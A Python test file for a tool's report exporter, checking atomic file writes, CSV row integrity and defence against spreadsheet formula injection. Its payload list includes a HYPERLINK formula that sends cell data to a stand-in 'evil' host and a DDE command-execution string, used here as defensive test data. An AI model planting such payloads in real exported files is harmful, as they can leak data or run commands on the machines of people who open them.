"""Every export format writes complete files or none."""

import csv
from pathlib import Path
from typing import Any

import msgspec
import pytest

from weighin.engine.errors import WeighinError
from weighin.engine.events.run import AnswerScored
from weighin.engine.plan.model import Candidate, Plan
from weighin.engine.report.export import FileFormat, export, formats

PLAN = Plan(candidates=(Candidate(id="a", path="/a.gguf", name="A"),))
ANSWER = AnswerScored(
    candidate="a",
    suite="s",
    item="1",
    correct=True,
    scores={},
    prompt="p",
    output='x,"y"\nz',
    extracted=None,
    expected="x",
)


def test_answers_and_rankings_read_back(tmp_path: Path) -> None:
    for fmt in ("answers-csv", "rankings-csv"):
        export("r", PLAN, [ANSWER], fmt, tmp_path / "out.csv")
        with (tmp_path / "out.csv").open(newline="") as file:
            (row,) = csv.DictReader(file)
        assert row["candidate"] == "a"
        assert row.get("output", ANSWER.output) == ANSWER.output
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_an_answer_with_a_carriage_return_stays_one_row(tmp_path: Path) -> None:
    answer = msgspec.structs.replace(ANSWER, output="one\rtwo")
    export("r", PLAN, [answer, ANSWER], "answers-csv", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["output"] for row in rows] == ["one\rtwo", ANSWER.output]


@pytest.mark.parametrize("fmt", formats(), ids=lambda each: each.name)
def test_every_format_writes_a_whole_run(fmt: Any, plan: Any, events: Any, tmp_path: Path) -> None:
    target = tmp_path / "out"
    written = export("r", plan, events, fmt.name, target)
    assert target.is_file() == isinstance(fmt, FileFormat)
    assert all(path.stat().st_size for path in written)
    assert not list(tmp_path.rglob("*.part"))


def test_an_impossible_export_says_why(tmp_path: Path) -> None:
    with pytest.raises(WeighinError, match="'xls' is not an export format"):
        export("r", PLAN, [], "xls", tmp_path / "x")
    with pytest.raises(WeighinError, match="cannot be written"):
        export("r", PLAN, [], "answers-csv", tmp_path / "no" / "x")
    with pytest.raises(WeighinError, match="no answers"):
        export("r", PLAN, [], "lm-eval", tmp_path / "x")
    (tmp_path / "file").write_text("")
    with pytest.raises(WeighinError, match="cannot be written"):
        export("r", PLAN, [ANSWER], "lm-eval", tmp_path / "file")


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+cmd|'/c calc'!A1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
]
FORMULAS += [" =1", "\u00a0=1", "＝1+1", "＠x", "-", "--5", "-1e5+x", "+1 (555) 0", "=", "- one", "-inf"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_table_begins_like_a_formula(formula: str, tmp_path: Path) -> None:
    plan = Plan(candidates=(Candidate(id=formula, path="/a.gguf", name=formula),))
    answer = msgspec.structs.replace(
        ANSWER, candidate=formula, suite=formula, item=formula, output=formula, extracted=formula, expected=formula
    )
    for fmt in ("answers-csv", "rankings-csv", "groups-csv"):
        export("r", plan, [answer], fmt, tmp_path / "out.csv")
        with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert formula not in cells
        assert not [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝＠")]
        assert fmt == "groups-csv" or f"'{formula}" in cells


@pytest.mark.parametrize("text", ["-5", "+3", "-1.5", "-1,234.50", "-1e-5", "-12%", "7", "", "'quoted", "a=b", "x-y"])
def test_numbers_and_other_text_are_exported_as_they_are(text: str, tmp_path: Path) -> None:
    export("r", PLAN, [msgspec.structs.replace(ANSWER, output=text)], "answers-csv", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["output"] == text
